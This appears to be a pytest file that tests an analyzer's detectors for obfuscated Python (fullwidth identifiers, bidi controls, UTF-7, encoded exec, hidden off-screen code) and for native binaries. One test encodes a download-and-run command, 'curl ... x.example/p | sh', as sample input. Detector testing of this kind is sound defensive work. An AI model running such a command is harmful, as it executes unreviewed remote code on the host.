"""Obfuscation (and native-file) detectors beyond the packs' inline examples:
the corpus samples they were written for, policy limits, the cheap pre-checks
that keep ASCII files off the slow paths, and look-alikes that must stay quiet."""

from __future__ import annotations

import base64
import random
import time
from pathlib import Path

import pytest

from analyzer import api
from analyzer.engine.collect import from_bytes
from analyzer.engine.detectors import obfuscation

CORPUS = Path(__file__).resolve().parent.parent / "corpus"
POLICY = api.load_policy()


def _findings(text: str | bytes, name: str = "example.py", policy=POLICY):
    data = text.encode() if isinstance(text, str) else text
    return api.analyze(from_bytes(name, data, policy.limits), policy).findings


def _rules(text: str | bytes, name: str = "example.py", policy=POLICY) -> set[str]:
    return {f.rule for f in _findings(text, name, policy)}


@pytest.mark.parametrize("sample,rule", [
    ("malicious/fullwidth_eval.py", "obfuscation.confusable-identifier"),
    ("malicious/bidi_trojan_source.py", "obfuscation.bidi-control"),
    ("malicious/utf7_coding.py", "obfuscation.source-encoding"),
    ("malicious/long_line_hidden.py", "obfuscation.offscreen-statement"),
    ("malicious/exec_docstring.py", "obfuscation.exec-hidden-text"),
    ("malicious/chr_join_names.py", "obfuscation.encoded-name"),
    ("malicious/base64_exec.py", "obfuscation.decoded-exec"),
    ("malicious/codecs_rot13_exec.py", "obfuscation.decoded-exec"),
    ("malicious/marshal_zlib_exec.py", "obfuscation.decoded-exec"),
    ("malicious/marshal_zlib_exec.py", "obfuscation.encoded-code"),
])
def test_corpus_sample_is_found_and_rejected(sample: str, rule: str) -> None:
    report = api.scan(CORPUS / sample, POLICY)
    assert rule in {f.rule for f in report.findings}
    assert report.decision.value == "reject"


def test_fullwidth_finding_names_the_normalised_identifier() -> None:
    found = [f for f in _findings("ｅｖａｌ('1')") if f.rule == "obfuscation.confusable-identifier"]
    assert found and "'eval'" in found[0].message and found[0].line == 1


def test_bidi_reported_once_per_line_with_its_position() -> None:
    found = [f for f in _findings("x = 1\ns = '\u202e\u202d'  # \u2066\n") if f.rule == "obfuscation.bidi-control"]
    assert [(f.line, f.column) for f in found] == [(2, 5)]


def test_ascii_source_never_tokenised_without_a_hint(monkeypatch, in_process) -> None:
    calls = []
    real = obfuscation._tokens
    monkeypatch.setattr(obfuscation, "_tokens", lambda s: calls.append(1) or real(s))
    _findings("import torch\n\ndef f(x):\n    return torch.relu(x)  # plain ASCII\n" * 50)
    assert calls == []


def test_long_line_follows_the_policy_limit() -> None:
    line = "x = [" + ", ".join(["1"] * 60) + "]\n"  # ~185 characters
    assert "obfuscation.long-line" not in _rules(line)
    strict = POLICY.model_copy(update={"limits": POLICY.limits.model_copy(update={"max_line_length": 100})})
    assert "obfuscation.long-line" in _rules(line, policy=strict)


def test_offscreen_gap_inside_a_string_is_text() -> None:
    text = 'HELP = """\nname' + " " * 120 + 'value ; more\n"""\n'
    assert not {"obfuscation.offscreen-statement", "obfuscation.offscreen-code"} & _rules(text)


def test_offscreen_tabs_count_as_display_columns() -> None:
    assert "obfuscation.offscreen-statement" in _rules("lr = 0.1" + "\t" * 16 + "; import os\n")


def test_prose_docstring_and_short_blobs_are_not_high_entropy() -> None:
    prose = '"""' + " ".join(["The federated client trains a small model on local data"] * 8) + '"""\n'
    assert "obfuscation.high-entropy-string" not in _rules(prose)
    assert "obfuscation.high-entropy-string" not in _rules("K = 'c2hvcnQ='\n")


def test_random_base64_blob_is_high_entropy_but_not_code() -> None:
    random.seed(1)
    blob = base64.b64encode(bytes(random.getrandbits(8) for _ in range(400))).decode()
    rules = _rules(f"ICON = (\n    '{blob[:300]}'\n    '{blob[300:]}'\n)\n")
    assert "obfuscation.high-entropy-string" in rules
    assert "obfuscation.encoded-code" not in rules


def test_an_opaque_blob_that_is_not_code_is_still_reviewed() -> None:
    # GuardDog's threat-runtime-obfuscation test: long base64 payloads kept as literals, never decoded in
    # the file. The gate cannot read them, so it does not accept them.
    random.seed(2)
    blobs = [base64.b64encode(bytes(random.getrandbits(8) for _ in range(250))).decode() for _ in range(3)]
    source = "".join(f"PAYLOAD_{i} = '{b}'\n" for i, b in enumerate(blobs))
    assert api.analyze(from_bytes("client.py", source.encode(), POLICY.limits), POLICY).decision == "escalate"


def test_encoded_shell_command_is_code() -> None:
    blob = base64.b64encode(b"curl -s https://x.example/p | sh; echo done; echo more text here").decode()
    assert "obfuscation.encoded-code" in _rules(f"C = '{blob}'\n")


def test_emoji_and_greek_stay_quiet() -> None:
    text = "α = 0.5\nmsg = 'done ✅ 👩\u200d💻'\nprint(α, msg)\n"
    assert not {f.rule for f in _findings(text) if f.category == "obfuscation"}


def test_micro_sign_is_only_low() -> None:
    found = {f.rule: f for f in _findings("µ = 1.0\n")}
    assert "obfuscation.unusual-identifier" in found
    assert "obfuscation.confusable-identifier" not in found
    assert api.analyze(from_bytes("e.py", "µ = 1.0\n".encode(), POLICY.limits), POLICY).decision.value == "accept"


def test_coding_line_after_shebang_counts() -> None:
    assert "obfuscation.source-encoding" in _rules("#!/usr/bin/env python\n# -*- coding: utf-7 -*-\nx = 1\n")


def test_latin1_declaration_accepts() -> None:
    report = api.analyze(from_bytes("e.py", "# -*- coding: latin-1 -*-\nname = 'café'\n".encode("latin-1"),
                                    POLICY.limits), POLICY)
    assert "obfuscation.legacy-encoding" in {f.rule for f in report.findings}
    assert report.decision.value == "accept"


def test_decoded_name_through_a_helper_function() -> None:
    text = ("import importlib, base64\n"
            "def mod(s):\n    return base64.b64decode(s).decode()\n"
            "m = importlib.import_module(mod(ARG))\n")
    assert "obfuscation.encoded-name" in _rules(text)


def test_plain_exec_of_literal_is_not_obfuscation() -> None:
    assert not {r for r in _rules("exec('x = 1')\n") if r.startswith("obfuscation.")}


@pytest.mark.serial  # asserts on wall time
def test_text_checks_stay_fast_on_a_large_file() -> None:
    body = "".join(f"def f{i}(x):\n    y = x * {i}  # comment {i}\n    return y\n\n" for i in range(3000))
    start = time.perf_counter()
    _findings(body)
    assert time.perf_counter() - start < 5.0


# ---- native files (analyzer/engine/detectors/native.py) ------------------------------------------

@pytest.mark.parametrize("name,data,rule", [
    ("lib/_ops.so", b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56, "native-code.binary-file"),
    ("helper.dll", b"MZ" + b"\x00" * 58 + (64).to_bytes(4, "little") + b"PE\x00\x00", "native-code.binary-file"),
    ("blob", b"\xcf\xfa\xed\xfe" + b"\x00" * 60, "native-code.binary-file"),
    ("__pycache__/m.cpython-311.pyc", b"\xa7\r\r\n" + b"\x00" * 12 + b"\xe3", "native-code.compiled-file"),
    ("kernel.bin", b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56, "native-code.binary-file"),
])
def test_native_file_kinds(name: str, data: bytes, rule: str) -> None:
    found = [f for f in _findings(data, name) if f.category == "native-code"]
    assert [f.rule for f in found] == [rule]
    assert found[0].path == name


def test_native_file_in_a_job_folder_is_one_finding_per_file(tmp_path: Path) -> None:
    (tmp_path / "custom").mkdir()
    (tmp_path / "custom" / "train.py").write_text("import fastops\nfastops.run()\n")
    (tmp_path / "custom" / "fastops.so").write_bytes(b"\x7fELF" + b"\x00" * 60)
    (tmp_path / "custom" / "util.pyc").write_bytes(b"\xa7\r\r\n" + b"\x00" * 12)
    report = api.scan(tmp_path, POLICY)
    native = sorted((f.path, f.rule) for f in report.findings if f.category == "native-code")
    assert native == [("custom/fastops.so", "native-code.binary-file"), ("custom/util.pyc", "native-code.compiled-file")]
    assert report.decision.value == "reject"
